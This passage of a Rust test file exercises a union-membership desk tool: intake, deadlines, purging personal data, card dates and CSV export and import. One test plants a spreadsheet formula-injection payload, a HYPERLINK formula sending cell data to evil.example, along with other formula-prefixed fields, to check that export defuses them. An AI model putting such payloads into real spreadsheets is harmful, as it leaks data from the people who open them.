    assert_eq!((first.new, first.already, first.opened), (1, 1, 1));
    let second = store(&db, &[envelope], Some(&private));
    assert_eq!((second.new, second.already, second.opened), (0, 1, 0));
    assert_eq!(
        second.ids,
        [JOIN],
        "acknowledged again, so the intake deletes it"
    );
    let conn = rusqlite::Connection::open(&db).unwrap();
    let rows: i64 = conn
        .query_row("SELECT COUNT(*) FROM requests", [], |r| r.get(0))
        .unwrap();
    assert_eq!(rows, 1);
}

#[test]
fn a_claim_counts_on_the_day_the_intake_received_it() {
    let dir = temp_dir("claim-day");
    let db = dir.join("desk.sqlite");
    // The phones said October (outside "fit"); the intake received one on the 30th of
    // November, 23:30 in China, the other 30 minutes later: the 1st of December there.
    let key = union_key(&dir);
    let card = |no: &str| Some(signed_card(&key, no, "2027-12-31"));
    let mut in_time = carded_claim(
        1,
        "fit",
        None,
        card("3715002026000001"),
        "CODE1",
        "2026-11-30",
    );
    in_time.received_at = "2026-11-30T15:30:00Z".into();
    let mut too_late = carded_claim(
        2,
        "fit",
        None,
        card("3715002026000002"),
        "CODE2",
        "2026-11-30",
    );
    too_late.received_at = "2026-11-30T16:00:00Z".into();
    let (a, b) = (in_time.envelope.id.clone(), too_late.envelope.id.clone());
    store(&db, &[in_time, too_late], None);
    let statuses = publish(&db, &dir, &[]);
    assert_eq!(
        statuses.for_request(&a).unwrap().state,
        RequestState::Approved
    );
    let late = statuses.for_request(&b).unwrap();
    assert_eq!(late.state, RequestState::Rejected);
    assert_eq!(late.note.as_deref(), Some("领取时不在活动有效期内"));
}

#[test]
fn purge_takes_id_numbers_phones_and_boxes_out_of_the_file() {
    let dir = temp_dir("purge");
    let db = dir.join("desk.sqlite");
    let (private, public) = desk_keys(7);
    let (sealed, reply_key) = seal(&public, JOIN, "join", &application("王五", ""));
    let box_ct = sealed.ct.clone();
    // The worker's answer to a needs_info, sealed too: it goes with its request.
    const SUPPLEMENT: &str = "00000000-0000-4000-8000-0000000000f1";
    let (supplement, _) = seal(
        &public,
        SUPPLEMENT,
        "supplement",
        &format!(r#"{{"of":"{JOIN}","note":"单位：某某快递"}}"#),
    );
    let supplement_ct = supplement.ct.clone();
    store(
        &db,
        &[
            sealed_envelope(JOIN, "join", sealed),
            sealed_envelope(SUPPLEMENT, "supplement", supplement),
            plain(
                TRANSFER,
                "transfer",
                RECEIVED,
                &application("赵六", r#","from_union":"旧""#),
            ),
            // Received later, not decided: kept whole.
            plain(
                CARD,
                "card",
                "2026-12-02T02:00:00Z",
                r#"{"name":"钱七","member_no":"3715002026000999","union":"371500-express","id_number":"22010519491231003X"}"#,
            ),
        ],
        Some(&private),
    );
    let filled = dir.join("filled.csv");
    std::fs::write(
        &filled,
        format!(
            "id,decision,member_no,note\n{JOIN},approved,3715002026000777,\n{TRANSFER},rejected,,\n"
        ),
    )
    .unwrap();
    succeeded(&desk(&["import", "--file", filled.to_str().unwrap()], &db));
    let raw = |db: &Path| {
        let mut bytes = std::fs::read(db).unwrap();
        if let Ok(wal) = std::fs::read(format!("{}-wal", db.display())) {
            bytes.extend(wal);
        }
        bytes
    };
    let has = |bytes: &[u8], text: &str| bytes.windows(text.len()).any(|w| w == text.as_bytes());
    let before = raw(&db);
    assert!(has(&before, "13912345678") && has(&before, "11010519491231002X"));

    let out = succeeded(&desk(&["purge", "--before", "2026-12-01"], &db));
    assert!(out.contains("purged 3 request(s)"), "{out}");
    let after = raw(&db);
    for gone in [
        "13912345678",
        "11010519491231002X",
        box_ct.as_str(),
        supplement_ct.as_str(),
    ] {
        assert!(!has(&after, gone), "{gone} is still in the file");
    }
    assert!(
        has(&after, "22010519491231003X"),
        "the undecided card is kept"
    );
    assert!(
        has(&after, "王五") && has(&after, "3715002026000777"),
        "the roster stays"
    );
    // Purged twice: nothing more; the answers are still published, still sealed.
    let out = succeeded(&desk(&["purge", "--before", "2026-12-01"], &db));
    assert!(out.contains("purged 0 request(s)"), "{out}");
    let statuses = publish(&db, &dir, &[]);
    let readable = yizhan_core::seal::readable_statuses(&statuses, &[(JOIN, reply_key.as_str())]);
    assert_eq!(
        readable.for_request(JOIN).unwrap().member_no.as_deref(),
        Some("3715002026000777")
    );
    let bad = desk(&["purge", "--before", "soon"], &db);
    assert!(!bad.status.success());
    let missing = desk(&["export", "--out", "x.csv"], &dir.join("none.sqlite"));
    assert!(String::from_utf8_lossy(&missing.stderr).contains("no such desk database"));
}

#[test]
fn cards_are_never_signed_with_a_date_no_venue_can_read_or_one_past() {
    let dir = temp_dir("valid-until");
    let db = desk_with_requests(&dir);
    let key = union_key(&dir);
    let campaigns = dir.join("campaigns-in.json");
    std::fs::write(&campaigns, CAMPAIGNS).unwrap();
    for (until, said) in [
        ("2027/12/31", "not a date"),
        ("2027-12-31T00:00", "not a date"),
        ("2020-01-01", "has passed"),
    ] {
        let run = desk(
            &[
                "publish",
                "--campaigns",
                campaigns.to_str().unwrap(),
                "--out",
                dir.join("out").to_str().unwrap(),
                "--sign-key",
                key.to_str().unwrap(),
                "--card-valid-until",
                until,
            ],
            &db,
        );
        assert!(!run.status.success(), "{until} was accepted");
        assert!(
            String::from_utf8_lossy(&run.stderr).contains(said),
            "{until}"
        );
        assert!(!dir.join("out").exists(), "nothing written");
    }
}

#[test]
fn an_exported_sheet_runs_no_formula_keeps_long_numbers_as_text_and_still_imports() {
    let dir = temp_dir("formula");
    let db = desk_with_requests(&dir);
    // A transfer whose every free-text field is a formula as a spreadsheet reads it.
    const EVIL: &str = "00000000-0000-4000-8000-0000000000e1";
    let hyperlink = r#"=HYPERLINK("http://evil.example/?"&E3,"x")"#;
    let payload = serde_json::json!({
        "name": hyperlink,
        "phone": "13912345678",
        "id_number": "11010519491231002X",
        "occupation": "@SUM(1)",
        "employer": "+1+1",
        "union": "-2+3",
        // A tab or line break never gets this far (refused as a control character
        // when the request is opened); a full-width sign, as a Chinese input method
        // types it, does.
        "from_union": "＝1+1",
    })
    .to_string();
    let stored = store(&db, &[plain(EVIL, "transfer", RECEIVED, &payload)], None);
    assert_eq!(stored.new, 1);

    let pending = dir.join("pending.csv");
    succeeded(&desk(&["export", "--out", pending.to_str().unwrap()], &db));
    let text = String::from_utf8(std::fs::read(&pending).unwrap()).unwrap();
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let at = |name: &str| header.iter().position(|h| h == zh(name)).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let row = |id: &str| rows.iter().find(|r| &r[at("id")] == id).unwrap().clone();
    let evil = row(EVIL);
    for (column, expected) in [
        ("name", format!("'{hyperlink}")),
        ("occupation", "'@SUM(1)".into()),
        ("employer", "'+1+1".into()),
        ("union", "'-2+3".into()),
        ("from_union", "'＝1+1".into()),
        // Long numbers stay text (Excel would show 1.39123E+10 and lose digits).
        ("phone", "'13912345678".into()),
        ("id_number", "'11010519491231002X".into()),
    ] {
        assert_eq!(evil[at(column)], expected, "{column} in:\n{text}");
    }
    // No cell of the sheet starts with what a spreadsheet runs or turns into a number.
    for record in &rows {
        for cell in record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "`{cell}` in:\n{text}"
            );
            assert!(
                !(cell.len() >= 11 && cell.bytes().all(|b| b.is_ascii_digit())),
                "`{cell}` in:\n{text}"
            );
        }
    }
    // The card's member number, filled in by the member, is kept as text too.
    assert_eq!(&row(CARD)[at("member_no")], "'3715002026000999");

    // The clerk decides; the spreadsheet kept the `'` of the card's member number and
    // of a note as typed. The import reads through them.
    let filled = fill(
        &text,
        &[
            (EVIL, "rejected", "", "'@SUM(1)"),
            (CARD, "'approved", "'3715002026000999", "'=欢迎"),
            (JOIN, "approved", "'3715002026000777", ""),
        ],
    );
    std::fs::write(&pending, &filled).unwrap();
    let run = desk(&["import", "--file", pending.to_str().unwrap()], &db);
    assert!(
        succeeded(&run).contains("recorded 3 decision(s)"),
        "{filled}"
    );
    let after = statuses(&db, &dir);
    let evil = after.for_request(EVIL).unwrap();
    assert_eq!(evil.state, RequestState::Rejected);
    assert_eq!(evil.note.as_deref(), Some("@SUM(1)"));
    let card = after.for_request(CARD).unwrap();
    assert_eq!(card.state, RequestState::Approved);
    assert_eq!(card.member_no.as_deref(), Some("3715002026000999"));
    assert_eq!(card.note.as_deref(), Some("=欢迎"));
    let join = after.for_request(JOIN).unwrap();
    assert_eq!(join.member_no.as_deref(), Some("3715002026000777"));
}

#[test]
fn an_error_after_a_cell_with_a_line_break_names_its_physical_line() {
    let dir = temp_dir("multiline");
    let db = desk_with_requests(&dir);
    let file = dir.join("filled.csv");
    // Row 2 holds a note over two lines (2 and 3); row 3 starts on line 4.
    std::fs::write(
        &file,
        format!(
            "\u{feff}id,kind,decision,member_no,note\n\
             {JOIN},join,approved,3715002026000777,\"欢迎\n加入\"\n\
             {TRANSFER},transfer,yes,,\n"
        ),
    )
    .unwrap();
    let run = desk(&["import", "--file", file.to_str().unwrap()], &db);
    assert!(!run.status.success());
    let said = String::from_utf8_lossy(&run.stderr);
    let name = file.to_str().unwrap();
    let expected = format!("{name}:4: 决定 `yes`");
    assert!(said.contains(&expected), "missing `{expected}` in:\n{said}");
    assert!(!said.contains(&format!("{name}:3:")), "{said}");
}

#[test]
fn the_sheet_is_in_chinese_and_a_needs_info_answered_by_a_supplement_comes_back_in_it() {
    let dir = temp_dir("chinese");
    let db = desk_with_requests(&dir);
    let unions = dir.join("unions.json");
    std::fs::write(
        &unions,
        r#"{"unions":[{"id":"371500-express","name":"聊城市快递行业工会联合会","region":"371500","kind":"industry"}]}"#,
    )
    .unwrap();
    let pending = dir.join("pending.csv");
    let export = || {
        succeeded(&desk(
            &[
                "export",
                "--out",
                pending.to_str().unwrap(),
                "--unions",
                unions.to_str().unwrap(),
            ],
            &db,
        ));
        String::from_utf8(std::fs::read(&pending).unwrap()).unwrap()
    };
    let text = export();
    // Beijing time (02:00:05Z is 10:00), kinds, occupations and unions in words.
    for words in [
        "2026-11-23 10:00",
        "入会",
        "转会",
        "会员证",
        "快递员",
        "聊城市快递行业工会联合会",
    ] {
        assert!(text.contains(words), "{words} in:\n{text}");
    }
    assert!(
        !text.contains("courier")
            && !text.contains("371500-express")
            && !text.contains("02:00:05Z")
    );
    let filled = fill(
        &text,
        &[
            (JOIN, "需补充材料", "", "请补充工作单位"),
            (TRANSFER, "不通过", "", "原单位未办理转出"),
            (CARD, "通过", "3715002026000999", ""),
        ],
    );
    std::fs::write(&pending, filled).unwrap();
    succeeded(&desk(&["import", "--file", pending.to_str().unwrap()], &db));
    assert_eq!(
        statuses(&db, &dir).for_request(JOIN).unwrap().state,
        RequestState::NeedsInfo
    );
    // The worker answers: the request is back in the sheet with the answer.
    let answer = format!(r#"{{"of":"{JOIN}","note":"单位：某某快递"}}"#);
    store(
        &db,
        &[plain(
            "00000000-0000-4000-8000-0000000000e9",
            "supplement",
            "2099-01-01T00:00:00Z",
            &answer,
        )],
        None,
    );
    let again = export();
    assert_eq!(again.trim_end().lines().count(), 2, "{again}");
    assert!(again.contains("单位：某某快递") && again.contains(JOIN));
    std::fs::write(
        &pending,
        fill(&again, &[(JOIN, "通过", "3715002026000777", "")]),
    )
    .unwrap();
    succeeded(&desk(&["import", "--file", pending.to_str().unwrap()], &db));
    let join = statuses(&db, &dir).for_request(JOIN).unwrap().clone();
    assert_eq!(join.state, RequestState::Approved);
    assert_eq!(join.member_no.as_deref(), Some("3715002026000777"));
}
